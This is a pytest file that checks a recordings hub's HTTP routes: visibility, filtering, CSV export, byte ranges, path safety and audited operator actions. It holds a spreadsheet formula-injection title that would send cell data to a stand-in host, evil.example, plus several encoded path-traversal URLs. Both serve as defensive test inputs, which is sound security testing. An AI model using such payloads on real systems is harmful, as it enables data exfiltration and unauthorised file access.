"""Recordings over HTTP (docs/recordings.md "HTTP"), against a real hub on a real uvicorn.

The recordings are test data: rows added straight to the index and one real WebM (PyAV,
:mod:`tests.recording_files`) where ``[recording] dir`` keeps finished files, so the routes are
tested without the recorder: who sees which, the filters, the CSV, byte ranges, paths that
come only from the index, hiding with a reason, and *Rekam*.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from hub.backends.base import Recording
from tests.kit import RunningHub, hub_settings, operator_client, start_hub, stop_hub
from tests.recording_files import WIB, add_recording, make_webm

PUBLIC_ID, OTHER_ID, PRIVATE_ID = "35.09.01", "35.09.02.1001", "opd.bakesbangpol"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def at(day: str, hh: int, mm: int = 0) -> float:
    import datetime as dt

    return dt.datetime.combine(dt.date.fromisoformat(day), dt.time(hh, mm), WIB).timestamp()


@pytest.fixture(scope="module")
def webm(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_webm(tmp_path_factory.mktemp("media") / "sample.webm", seconds=4)


@dataclass
class Seeded:
    hub: RunningHub
    dir: Path
    newest: Recording  # PUBLIC_ID, 2026-05-05 10:00, with the file
    older: Recording  # PUBLIC_ID, 2026-05-04 09:00, with the file
    other: Recording  # OTHER_ID (a kelurahan in Kencong), 2026-05-04 13:00
    private: Recording  # PRIVATE_ID, with the file
    hidden: Recording  # PUBLIC_ID, hidden by an operator
    open: Recording  # PUBLIC_ID, still recording
    hostile: Recording  # PUBLIC_ID, a title that is a spreadsheet formula

    @property
    def published(self) -> list[Recording]:
        return [self.newest, self.hostile, self.other, self.older]


@pytest.fixture
async def seeded(tmp_path: Path, webm: Path) -> AsyncIterator[Seeded]:
    recordings_dir = tmp_path / "rekaman"
    running = await start_hub(hub_settings(tmp_path, recording={"dir": str(recordings_dir)}))
    store = running.hub.backend.recordings
    try:
        yield Seeded(
            running, recordings_dir,
            newest=await add_recording(store, recordings_dir, PUBLIC_ID, "Musyawarah Desa", at("2026-05-05", 10), webm),
            older=await add_recording(store, recordings_dir, PUBLIC_ID, "Rapat Pagi", at("2026-05-04", 9), webm),
            other=await add_recording(store, recordings_dir, OTHER_ID, "Pelayanan KTP", at("2026-05-04", 13), webm),
            private=await add_recording(store, recordings_dir, PRIVATE_ID, "Rapat Tertutup", at("2026-05-04", 11),
                                        webm),
            hidden=await add_recording(store, recordings_dir, PUBLIC_ID, "Salah Rekam", at("2026-05-04", 12), webm,
                                       visible=False, hidden_reason="terekam data pribadi warga"),
            open=await add_recording(store, recordings_dir, PUBLIC_ID, "Sedang Berjalan", at("2026-05-05", 11),
                                     state="recording", end=None, parts=("part-0.webm",)),
            hostile=await add_recording(store, recordings_dir, PUBLIC_ID, HOSTILE_TITLE, at("2026-05-05", 8), webm),
        )
    finally:
        await stop_hub(running)


def ids(answer: httpx.Response) -> list[str]:
    assert answer.status_code == 200, answer.text
    return [r["id"] for r in answer.json()["recordings"]]


# -- who sees what ------------------------------------------------------------------------------


async def test_the_public_list_holds_published_recordings_newest_first(seeded: Seeded) -> None:
    async with httpx.AsyncClient(base_url=seeded.hub.http) as public:
        answer = await public.get("/api/v1/recordings")
    assert ids(answer) == [r.id for r in seeded.published]  # no private, hidden or open one
    first = answer.json()["recordings"][0]
    assert first == {
        "id": seeded.newest.id, "station": PUBLIC_ID, "name": "Kecamatan Jombang", "kind": "kecamatan",
        "kecamatan": "Jombang", "title": "Musyawarah Desa", "date": "2026-05-05", "start": seeded.newest.start,
        "end": seeded.newest.end, "duration_s": seeded.newest.duration_s, "bytes": seeded.newest.bytes,
        "video_codec": "VP8", "audio_codec": "opus", "url": f"/recordings/{seeded.newest.id}.webm",
    }
    assert answer.json()["next"] is None


async def test_operators_see_every_recording_with_its_state_and_the_read_is_audited(seeded: Seeded) -> None:
    operator = await operator_client(seeded.hub, seeded.hub.hub)
    try:
        answer = await operator.get("/api/v1/recordings")
        assert set(ids(answer)) == {r.id for r in [*seeded.published, seeded.private, seeded.hidden, seeded.open]}
        rows = {r["id"]: r for r in answer.json()["recordings"]}
        assert rows[seeded.hidden.id]["visible"] is False
        assert rows[seeded.hidden.id]["hidden_reason"] == "terekam data pribadi warga"
        assert rows[seeded.open.id]["state"] == "recording" and rows[seeded.open.id]["url"] is None
        assert rows[seeded.newest.id]["reason"] == "activity"
        log = (await operator.get("/api/v1/audit")).json()["entries"]
        assert any(e["action"] == "read" and e["detail"] == PRIVATE_ID for e in log), log
    finally:
        await operator.aclose()


async def test_filters_and_paging(seeded: Seeded) -> None:
    async with httpx.AsyncClient(base_url=seeded.hub.http) as public:
        by_station = await public.get("/api/v1/recordings", params={"station": PUBLIC_ID})
        assert ids(by_station) == [seeded.newest.id, seeded.hostile.id, seeded.older.id]
        by_day = await public.get("/api/v1/recordings", params={"date": "2026-05-04"})
        assert ids(by_day) == [seeded.other.id, seeded.older.id]
        by_both = await public.get("/api/v1/recordings", params={"date": "2026-05-04", "station": OTHER_ID})
        assert ids(by_both) == [seeded.other.id]
        by_kecamatan = await public.get("/api/v1/recordings", params={"kecamatan": "Kencong"})
        assert ids(by_kecamatan) == [seeded.other.id]
        by_kind = await public.get("/api/v1/recordings", params={"kind": "kecamatan"})
        assert ids(by_kind) == [seeded.newest.id, seeded.hostile.id, seeded.older.id]
        before = await public.get("/api/v1/recordings", params={"before": str(seeded.hostile.start)})
        assert ids(before) == [seeded.other.id, seeded.older.id]
        # Pages of two, followed with `next`, give the whole list once.
        seen, cursor = [], None
        while True:
            params = {"limit": "2", **({"before": str(cursor)} if cursor is not None else {})}
            page = await public.get("/api/v1/recordings", params=params)
            seen += ids(page)
            cursor = page.json()["next"]
            if cursor is None:
                break
        assert seen == [r.id for r in seeded.published]
        # A private station is not there for the public, exactly like one that does not exist.
        assert (await public.get("/api/v1/recordings", params={"station": PRIVATE_ID})).status_code == 404
        assert (await public.get("/api/v1/recordings", params={"station": "opd.tidak-ada"})).status_code == 404
        for bad in ({"date": "05-05-2026"}, {"before": "kemarin"}, {"before": "nan"}, {"limit": "0"},
                    {"limit": "9999"}):
            answer = await public.get("/api/v1/recordings", params=bad)
            assert answer.status_code == 400 and answer.json()["error"]["code"] == "bad_query", bad


async def test_one_recording_is_404_to_the_public_unless_published(seeded: Seeded) -> None:
    async with httpx.AsyncClient(base_url=seeded.hub.http) as public:
        one = await public.get(f"/api/v1/recordings/{seeded.newest.id}")
        assert one.status_code == 200 and one.json()["state"] == "done"
        assert "visible" not in one.json() and "hidden_reason" not in one.json()
        for hidden in (seeded.private, seeded.hidden, seeded.open):
            assert (await public.get(f"/api/v1/recordings/{hidden.id}")).status_code == 404
            assert (await public.get(f"/recordings/{hidden.id}.webm")).status_code == 404
        assert (await public.get("/api/v1/recordings/tidak-ada")).status_code == 404
    operator = await operator_client(seeded.hub, seeded.hub.hub)
    try:
        hidden = (await operator.get(f"/api/v1/recordings/{seeded.hidden.id}")).json()
        assert hidden["visible"] is False and hidden["hidden_reason"] == "terekam data pribadi warga"
        assert (await operator.get(f"/recordings/{seeded.private.id}.webm")).status_code == 200
    finally:
        await operator.aclose()


async def test_the_csv_is_spreadsheet_safe(seeded: Seeded) -> None:
    async with httpx.AsyncClient(base_url=seeded.hub.http) as public:
        answer = await public.get("/api/v1/recordings.csv", params={"station": PUBLIC_ID})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [r["id"] for r in rows] == [seeded.newest.id, seeded.hostile.id, seeded.older.id]
    hostile = rows[1]
    assert hostile["title"] == "'" + HOSTILE_TITLE  # shown as text, never run as a formula
    assert hostile["url"] == f"/recordings/{seeded.hostile.id}.webm"
    assert "state" not in rows[0]  # operators' columns stay with operators


# -- the file -----------------------------------------------------------------------------------


async def test_the_file_is_served_whole_and_in_ranges(seeded: Seeded, webm: Path) -> None:
    data = webm.read_bytes()
    size = len(data)
    url = f"/recordings/{seeded.newest.id}.webm"
    async with httpx.AsyncClient(base_url=seeded.hub.http) as public:
        whole = await public.get(url, headers={"Accept-Encoding": "gzip"})
        assert whole.status_code == 200 and whole.content == data
        assert whole.headers["content-type"] == "video/webm"
        assert whole.headers["accept-ranges"] == "bytes"
        assert whole.headers["content-length"] == str(size)
        assert "content-encoding" not in whole.headers  # video is not gzipped
        cases = {
            "bytes=0-99": (0, 99),  # the first bytes
            f"bytes={size // 2}-{size // 2 + 999}": (size // 2, size // 2 + 999),  # the middle
            "bytes=-500": (size - 500, size - 1),  # a suffix
            f"bytes={size - 10}-": (size - 10, size - 1),  # to the end
            f"bytes={size - 10}-{size + 1000}": (size - 10, size - 1),  # cut at the end
        }
        for header, (first, last) in cases.items():
            part = await public.get(url, headers={"Range": header})
            assert part.status_code == 206, header
            assert part.headers["content-range"] == f"bytes {first}-{last}/{size}", header
            assert part.headers["content-length"] == str(last - first + 1)
            assert part.content == data[first:last + 1], header
        for header in (f"bytes={size}-", f"bytes={size + 5}-{size + 10}", "bytes=-0"):
            refused = await public.get(url, headers={"Range": header})
            assert refused.status_code == 416, header
            assert refused.headers["content-range"] == f"bytes */{size}"
        for ignored in ("items=0-10", "bytes=abc", "bytes=0-1,5-9"):
            answer = await public.get(url, headers={"Range": ignored})
            assert answer.status_code == 200 and len(answer.content) == size, ignored
        head = await public.head(url, headers={"Range": "bytes=0-9"})
        assert head.status_code == 206 and head.headers["content-range"] == f"bytes 0-9/{size}"
        assert head.content == b""
        # If-Range with another version's ETag: the whole (current) file, not a mixed range.
        stale = await public.get(url, headers={"Range": "bytes=0-9", "If-Range": '"0-0"'})
        assert stale.status_code == 200 and len(stale.content) == size
        fresh = await public.get(url, headers={"Range": "bytes=0-9", "If-Range": whole.headers["etag"]})
        assert fresh.status_code == 206
        # The container is the recording's own: a WebM is not served as .mp4.
        assert (await public.get(f"/recordings/{seeded.newest.id}.mp4")).status_code == 404


async def test_the_path_comes_from_the_index_never_from_the_url(seeded: Seeded, tmp_path: Path) -> None:
    secret = tmp_path / "secret.webm"
    secret.write_bytes(b"rahasia" * 100)
    store = seeded.hub.hub.backend.recordings
    # A row whose path leaves the recordings' folder (a corrupt or tampered index): not served.
    escaping = dataclasses.replace(seeded.newest, id="escaping", path="../secret.webm")
    absolute = dataclasses.replace(seeded.newest, id="absolute", path=str(secret))
    await store.add(escaping)
    await store.add(absolute)
    operator = await operator_client(seeded.hub, seeded.hub.hub)
    try:
        async with httpx.AsyncClient(base_url=seeded.hub.http) as public:
            for client in (public, operator):
                for url in ("/recordings/escaping.webm", "/recordings/absolute.webm",
                            "/recordings/..%2Fsecret.webm", "/recordings/%2E%2E%2F%2E%2E%2Fsecret.webm",
                            f"/recordings/{seeded.newest.id}%2F..%2F..%2Fsecret.webm",
                            f"/recordings/{PUBLIC_ID}%2F2026-05-05%2F{seeded.newest.id}.webm"):
                    answer = await client.get(url)
                    assert answer.status_code == 404, (url, answer.status_code)
                    assert b"rahasia" not in answer.content
        # The file on disk under the recording's own id is what is served, whatever else exists.
        (seeded.dir / "evil.webm").write_bytes(b"jahat")
        assert (await operator.get("/recordings/evil.webm")).status_code == 404
    finally:
        await operator.aclose()


# -- operators' actions -------------------------------------------------------------------------


async def test_hiding_needs_an_operator_csrf_and_a_reason_and_is_audited(seeded: Seeded) -> None:
    url = f"/api/v1/recordings/{seeded.newest.id}/visibility"
    operator = await operator_client(seeded.hub, seeded.hub.hub)
    try:
        async with httpx.AsyncClient(base_url=seeded.hub.http) as public:
            refused = await public.post(url, json={"visible": False, "reason": "x"})
            assert refused.status_code == 401
            async with httpx.AsyncClient(base_url=seeded.hub.http, cookies=operator.cookies) as no_csrf:
                refused = await no_csrf.post(url, json={"visible": False, "reason": "x"})
            assert refused.status_code == 403 and refused.json()["error"]["code"] == "csrf"
            for body, code in (({"visible": False}, "missing_field"), ({"visible": False, "reason": "  "},
                                                                         "missing_field"),
                               ({"visible": "no", "reason": "x"}, "bad_field"),
                               ({"visible": False, "reason": "x" * 501}, "bad_field")):
                answer = await operator.post(url, json=body)
                assert answer.status_code == 400 and answer.json()["error"]["code"] == code, body
            assert (await operator.post("/api/v1/recordings/tidak-ada/visibility",
                                        json={"visible": False, "reason": "x"})).status_code == 404

            hidden = await operator.post(url, json={"visible": False, "reason": "wajah anak-anak terlihat"})
            assert hidden.status_code == 200, hidden.text
            assert hidden.json()["recording"]["visible"] is False
            assert hidden.json()["recording"]["hidden_reason"] == "wajah anak-anak terlihat"
            assert seeded.newest.id not in ids(await public.get("/api/v1/recordings"))
            assert (await public.get(f"/recordings/{seeded.newest.id}.webm")).status_code == 404
            assert (await public.get(f"/api/v1/recordings/{seeded.newest.id}")).status_code == 404
            log = (await operator.get("/api/v1/audit")).json()["entries"]
            entry = next(e for e in log if seeded.newest.id in e["detail"])
            assert entry["actor"] == "budi" and "wajah anak-anak terlihat" in entry["detail"]

            shown = await operator.post(url, json={"visible": True})
            assert shown.status_code == 200 and shown.json()["recording"]["visible"] is True
            assert seeded.newest.id in ids(await public.get("/api/v1/recordings"))
            log = (await operator.get("/api/v1/audit")).json()["entries"]
            assert sum(seeded.newest.id in e["detail"] for e in log) == 2, log
        assert (await seeded.hub.hub.backend.recordings.get(seeded.newest.id)) is not None  # never deleted
    finally:
        await operator.aclose()


async def test_rekam_needs_an_operator_and_csrf_and_is_audited(seeded: Seeded) -> None:
    url = f"/api/v1/stations/{PUBLIC_ID}/recording"
    operator = await operator_client(seeded.hub, seeded.hub.hub)
    try:
        async with httpx.AsyncClient(base_url=seeded.hub.http) as public:
            assert (await public.post(url, json={"record": True})).status_code == 401
            async with httpx.AsyncClient(base_url=seeded.hub.http, cookies=operator.cookies) as no_csrf:
                refused = await no_csrf.post(url, json={"record": True})
            assert refused.status_code == 403 and refused.json()["error"]["code"] == "csrf"
            assert (await public.get("/api/v1/recordings/status")).status_code == 401
        assert (await operator.post(url, json={"record": "ya"})).status_code == 400
        assert (await operator.post("/api/v1/stations/opd.tidak-ada/recording", json={"record": True})).status_code \
            == 404
        on = await operator.post(url, json={"record": True})
        assert on.status_code == 200, on.text
        assert on.json()["station"] == PUBLIC_ID and on.json()["record"] is True and on.json()["override"] is True
        off = await operator.post(url, json={"record": False})
        assert off.status_code == 200 and off.json()["record"] is False
        log = (await operator.get("/api/v1/audit")).json()["entries"]
        assert sum(PUBLIC_ID in e["detail"] and e["actor"] == "budi" and e["action"].startswith("record")
                   for e in log) == 2, log
        status = await operator.get("/api/v1/recordings/status", params={"station": PUBLIC_ID})
        assert status.status_code == 200, status.text
        assert "alarm" in status.json() and status.json()["station"]["override"] is False
        assert (await operator.get("/api/v1/recordings/status", params={"station": "x"})).status_code == 404
    finally:
        await operator.aclose()
